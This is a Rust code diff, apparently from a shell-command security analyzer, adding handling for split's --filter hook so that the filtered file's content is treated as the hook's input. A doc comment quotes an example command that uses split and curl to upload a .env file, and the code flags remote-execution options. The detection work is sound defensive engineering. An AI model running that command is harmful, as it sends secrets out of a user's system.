@@ -12,6 +12,7 @@
 use crate::deferred::part;
 use crate::interp::Lang;
 use crate::model::{Class, Verdict};
+use crate::state::Val;
 use crate::taxonomy::ids;
 use crate::walk::{Producer, Scope, Walker, Word, WordShape};
 
@@ -818,7 +819,24 @@ impl Walker<'_> {
                         }
                     }
                     Value::Make => self.makefile(argv, &value, scope),
-                    Value::Hook => self.hook(argv, &value, scope, name),
+                    Value::Hook => {
+                        let input = self.hook_input(name, args, stdin, scope);
+                        let mut hook_scope = scope.clone();
+                        if name == "split" {
+                            // split runs the filter with `$FILE` set to the piece's name: the
+                            // prefix (`x` by default) and a suffix, in the working directory.
+                            let prefix = split_prefix(args)
+                                .map_or_else(|| Val::Known("x".to_owned()), |p| Val::of(&p));
+                            let piece = match prefix {
+                                Val::Known(p) => Val::Known(format!("{p}aa")),
+                                other => other,
+                            };
+                            hook_scope.sh.set("FILE", piece, Some(true));
+                        }
+                        self.with_shell_stdin(input, |w| {
+                            w.hook(argv, &value, &hook_scope, name);
+                        });
+                    }
                     Value::PasswordCommand => {
                         let before = self.commands.len();
                         self.hook(argv, &value, scope, name);
@@ -930,6 +948,20 @@ impl Walker<'_> {
     }
 
     /// A hook option's command, judged as if typed directly (see [`Value::Hook`]).
+    /// What a tool's command-valued option reads on its standard input: `split
+    /// --filter=CMD FILE` pipes FILE's pieces into CMD (`split --filter='curl -T - URL' .env`
+    /// sends the file). Other hooks read nothing of the tool's data (tar's `--to-command` is
+    /// `deferred.rs`'s).
+    fn hook_input(&self, tool: &str, args: &[Word], stdin: &Producer, scope: &Scope) -> Producer {
+        match tool {
+            "split" => match split_operands(args).first() {
+                Some(file) if !(file.exact && file.text == "-") => self.file_content(file, scope),
+                _ => stdin.clone(),
+            },
+            _ => Producer::Nothing,
+        }
+    }
+
     fn hook(&mut self, argv: &[Word], code: &Word, scope: &Scope, tool: &str) {
         let mut child = scope.clone();
         self.run_code_string(argv, code, &mut child, &format!("{tool} hook"));
@@ -1035,6 +1067,49 @@ impl Walker<'_> {
             self.record(argv, scope, ids::RCE_OPTION_EXEC.verdict());
         }
     }
+}
+
+/// split's operands, `[INPUT [PREFIX]]`, past its options and their values.
+fn split_operands(args: &[Word]) -> Vec<&Word> {
+    const VALUES: &[&str] = &[
+        "-a",
+        "-b",
+        "-C",
+        "-l",
+        "-n",
+        "-t",
+        "--suffix-length",
+        "--bytes",
+        "--line-bytes",
+        "--lines",
+        "--number",
+        "--separator",
+        "--additional-suffix",
+        "--filter",
+    ];
+    let mut operands = Vec::new();
+    let mut i = 0;
+    let mut options_done = false;
+    while let Some(w) = args.get(i) {
+        i += 1;
+        if !options_done && w.exact && w.text == "--" {
+            options_done = true;
+            continue;
+        }
+        if !options_done && w.exact && w.text.starts_with('-') && w.text.len() > 1 {
+            if VALUES.contains(&w.text.as_str()) {
+                i += 1;
+            }
+            continue;
+        }
+        operands.push(w);
+    }
+    operands
+}
+
+/// The prefix of split's pieces (its second operand), if given.
+fn split_prefix(args: &[Word]) -> Option<Word> {
+    split_operands(args).get(1).map(|w| (*w).clone())
 }
 
 #[cfg(test)]
